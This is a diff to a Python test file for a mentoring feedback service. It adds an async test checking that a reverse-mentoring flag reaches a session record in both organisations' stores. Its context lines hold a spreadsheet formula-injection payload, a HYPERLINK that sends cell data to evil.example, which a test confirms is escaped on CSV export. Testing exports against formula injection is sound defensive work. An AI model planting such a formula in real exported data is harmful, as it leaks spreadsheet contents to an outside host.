@@ -316,3 +316,18 @@ def test_a_question_a_spreadsheet_would_run_is_exported_as_text() -> None:
     (row,) = list(csv.DictReader(io.StringIO(as_csv([entry]))))
     assert row["question"] == '\'=HYPERLINK("https://evil.example/?d="&A1,"Open")'
     assert row["learned"] == "'@SUM(1+1)" and row["my_rating"] == "4"
+
+
+async def test_a_proposal_handled_after_its_session_still_marks_the_session_reverse_mentoring(
+    feedback: FeedbackService,
+) -> None:
+    """The two arrive on different topics, in either order: the proposal's reverse mentoring reaches a
+    session already recorded, in every store that keeps it."""
+    await feedback.scheduled("ses_1")
+    for org in (MENTEE[1], MENTOR[1]):
+        async with feedback.runtime.stores.session(org) as db:
+            assert (await db.get(SessionRecord, "ses_1")).reverse_mentoring is False  # type: ignore[union-attr]
+    await offered(feedback, "ses_1")
+    for org in (MENTEE[1], MENTOR[1]):
+        async with feedback.runtime.stores.session(org) as db:
+            assert (await db.get(SessionRecord, "ses_1")).reverse_mentoring is True  # type: ignore[union-attr]
